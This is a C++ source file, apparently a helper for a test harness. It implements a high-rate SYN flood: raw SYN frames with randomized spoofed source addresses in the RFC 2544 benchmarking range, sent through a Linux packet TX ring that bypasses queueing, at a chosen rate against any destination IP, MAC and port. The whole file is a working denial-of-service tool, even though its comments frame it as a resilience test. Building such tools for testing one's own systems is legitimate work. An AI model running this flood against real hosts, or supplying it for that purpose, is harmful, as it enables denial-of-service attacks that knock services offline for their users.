// A SYN flood for run.py: raw frames with random sources from one interface, at a rate, for a while.
//
//   flood INTERFACE DESTINATION-MAC DESTINATION-IP PORT SYNS-PER-SECOND SECONDS [FRAME-BYTES]
//
// Prints how many were sent and what CPU time that took: "SENT SECONDS". Frames are 58 bytes, or padded to as many as
// are asked for (behind the IP packet). The sources are of 198.18.0.0/15 (RFC 2544: for tests), so that nobody answers.
//
// A flood comes from elsewhere, so this one should cost the machine as little as can be: frames lie in a ring the
// kernel sends from (PACKET_TX_RING, no queueing discipline), and only their numbers are written anew, with their
// checksums mended (RFC 1624).
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <thread>

namespace {

struct __attribute__((packed)) Syn {
  ether_header ethernet;
  iphdr ip;
  tcphdr tcp;
  uint8_t options[4];  // MSS 1460
};
constexpr size_t kLargestFrame = 1514, kRingFrame = 2048, kBlock = 65536, kFrames = 512, kBatch = 64;
constexpr size_t kHeader = TPACKET2_HDRLEN - sizeof(sockaddr_ll);

uint32_t sum_of(const void* data, size_t size) {
  const auto* at = static_cast<const uint8_t*>(data);
  uint32_t sum = 0;
  for (size_t n = 0; n + 1 < size; n += 2) sum += static_cast<uint32_t>(at[n] << 8 | at[n + 1]);
  return sum;
}

uint16_t checksum(uint32_t sum) {
  sum = (sum & 0xffff) + (sum >> 16);
  sum = (sum & 0xffff) + (sum >> 16);
  return htons(static_cast<uint16_t>(~sum));
}

[[noreturn]] void fail(const char* what) {
  std::perror(what);
  std::exit(1);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 7 && argc != 8) return 2;
  const auto frame_bytes = static_cast<uint32_t>(
      argc == 8 ? std::clamp<size_t>(std::strtoul(argv[7], nullptr, 10), sizeof(Syn), kLargestFrame) : sizeof(Syn));
  const int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) fail("flood: socket");
  const int version = TPACKET_V2, bypass = 1;
  tpacket_req ring{};
  ring.tp_block_size = kBlock;
  ring.tp_frame_size = kRingFrame;
  ring.tp_frame_nr = kFrames;
  ring.tp_block_nr = kFrames * kRingFrame / kBlock;
  if (setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof(version)) != 0 ||
      setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof(bypass)) != 0 ||
      setsockopt(fd, SOL_PACKET, PACKET_TX_RING, &ring, sizeof(ring)) != 0) {
    fail("flood: ring");
  }
  auto* const memory =
      static_cast<uint8_t*>(mmap(nullptr, kFrames * kRingFrame, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
  if (memory == MAP_FAILED) fail("flood: mmap");
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(if_nametoindex(argv[1]));
  if (to.sll_ifindex == 0 || bind(fd, reinterpret_cast<sockaddr*>(&to), sizeof(to)) != 0) fail("flood: interface");

  Syn first{};
  unsigned mac[6];
  if (std::sscanf(argv[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) return 2;
  for (int n = 0; n < 6; ++n) first.ethernet.ether_dhost[n] = static_cast<uint8_t>(mac[n]);
  first.ethernet.ether_shost[0] = 2;
  first.ethernet.ether_type = htons(ETHERTYPE_IP);
  first.ip.version = 4;
  first.ip.ihl = 5;
  first.ip.ttl = 64;
  first.ip.protocol = IPPROTO_TCP;
  first.ip.tot_len = htons(sizeof(Syn) - sizeof(ether_header));
  first.ip.daddr = inet_addr(argv[3]);
  first.tcp.th_dport = htons(static_cast<uint16_t>(std::atoi(argv[4])));
  first.tcp.th_off = 6;
  first.tcp.th_flags = TH_SYN;
  first.tcp.th_win = htons(64240);
  const uint8_t mss[4] = {2, 4, 1460 >> 8, 1460 & 255};
  std::memcpy(first.options, mss, sizeof(mss));
  constexpr uint32_t kTcpBytes = sizeof(tcphdr) + sizeof(mss);
  const uint32_t ip_sum = sum_of(&first.ip, sizeof(first.ip));
  const uint32_t tcp_sum = sum_of(&first.ip.saddr, 8) + IPPROTO_TCP + kTcpBytes + sum_of(&first.tcp, kTcpBytes);
  for (size_t n = 0; n < kFrames; ++n) std::memcpy(memory + n * kRingFrame + kHeader, &first, sizeof(first));

  uint64_t dice = std::random_device{}() | uint64_t{std::random_device{}()} << 32;
  const auto started = std::chrono::steady_clock::now();
  const double rate = std::atof(argv[5]), seconds = std::atof(argv[6]);
  unsigned long sent = 0;
  for (size_t next = 0;;) {
    const double passed = std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
    if (passed >= seconds) break;
    if (static_cast<double>(sent) > rate * passed) {
      std::this_thread::sleep_for(std::chrono::microseconds(200));
      continue;
    }
    size_t ready = 0;
    for (; ready < kBatch; ++ready) {
      uint8_t* const at = memory + next * kRingFrame;
      auto* const header = reinterpret_cast<tpacket2_hdr*>(at);
      if (header->tp_status != TP_STATUS_AVAILABLE) break;
      auto& syn = *reinterpret_cast<Syn*>(at + kHeader);
      dice = dice * 6364136223846793005u + 1442695040888963407u;
      const auto source = 0xc6120000u | static_cast<uint32_t>(dice >> 47);
      const auto port = static_cast<uint32_t>(1024 + (dice >> 20) % 64000), seq = static_cast<uint32_t>(dice >> 32);
      const uint32_t source_sum = (source >> 16) + (source & 0xffff);
      syn.ip.saddr = htonl(source);
      syn.ip.check = checksum(ip_sum + source_sum);
      syn.tcp.th_sport = htons(static_cast<uint16_t>(port));
      syn.tcp.th_seq = htonl(seq);
      syn.tcp.th_sum = checksum(tcp_sum + source_sum + port + (seq >> 16) + (seq & 0xffff));
      header->tp_len = frame_bytes;
      __atomic_store_n(&header->tp_status, TP_STATUS_SEND_REQUEST, __ATOMIC_RELEASE);
      next = (next + 1) % kFrames;
    }
    send(fd, nullptr, 0, MSG_DONTWAIT);
    sent += ready;
  }
  rusage used{};
  getrusage(RUSAGE_SELF, &used);
  const auto spent = [](const timeval& time) {
    return static_cast<double>(time.tv_sec) + static_cast<double>(time.tv_usec) * 1e-6;
  };
  std::printf("%lu %.3f\n", sent, spent(used.ru_utime) + spent(used.ru_stime));
  return 0;
}
